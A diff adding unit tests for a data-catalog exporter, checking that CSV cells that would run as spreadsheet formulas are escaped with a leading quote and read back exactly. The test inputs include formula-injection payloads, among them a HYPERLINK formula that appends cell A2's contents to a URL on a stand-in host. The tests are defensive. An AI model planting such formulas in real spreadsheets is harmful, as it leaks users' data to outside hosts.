@@ -38,6 +38,35 @@ describe('catalog files in the national template (pure)', () => {
     expect(again.equals(csv)).toBe(true);
   });
 
+  it('PM-9(3) exports: a CSV cell a spreadsheet would run as a formula is written as text, and imports back exactly', async () => {
+    const risky = sampleFileEntries(6).map((e) => ({ ...e }));
+    risky[0].resourceName = '=1+1';
+    risky[1].abstract = '-5';
+    risky[2].notSharedBasis = '@x';
+    risky[3].resourceName = '=HYPERLINK("http://x/?"&A2,"点击")';
+    risky[4].abstract = "'=already quoted";
+    risky[5].resourceName = "'5 inch";
+    risky[0].informationItems = [{ name: '+86电话', dataType: risky[0].informationItems[0]?.dataType ?? ('CHARACTER' as never) }];
+    const csv = await serializeCatalogFile(CatalogFileFormat.CSV, risky);
+    const cells = csvRows(csv).slice(1).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining(["'=1+1", "'-5", "'@x", `'=HYPERLINK("http://x/?"&A2,"点击")`, "''=already quoted", "''5 inch"]));
+    const back = await parseCatalogFile(CatalogFileFormat.CSV, csv, options);
+    expect(back.problems).toEqual([]);
+    expect(back.entries.map((e) => e.data)).toEqual(asData(risky));
+    const again = await serializeCatalogFile(CatalogFileFormat.CSV, back.entries.map(({ data: { providerId: _p, ...rest } }) => ({ ...rest, providerName: PROVIDER })));
+    expect(again.equals(csv)).toBe(true);
+  });
+
+  it('reads a CSV saved by a spreadsheet as it stands: formulas typed as text, and a leading quote before plain text, are kept', async () => {
+    const rows = [[...COLUMNS], ...sampleFileEntries(2).map(toRow)];
+    rows[1][col('信息资源名称')] = '=1+1';
+    rows[2][col('信息资源名称')] = "'5 inch";
+    const back = await parseCatalogFile(CatalogFileFormat.CSV, csvOf(rows), options);
+    expect(back.problems).toEqual([]);
+    expect(back.entries.map((e) => e.data.resourceName)).toEqual(['=1+1', "'5 inch"]);
+  });
+
   it('exports 200 entries to XLSX and imports them back identical; every cell is text', async () => {
     const xlsx = await serializeCatalogFile(CatalogFileFormat.XLSX, entries);
     const back = await parseCatalogFile(CatalogFileFormat.XLSX, xlsx, options);
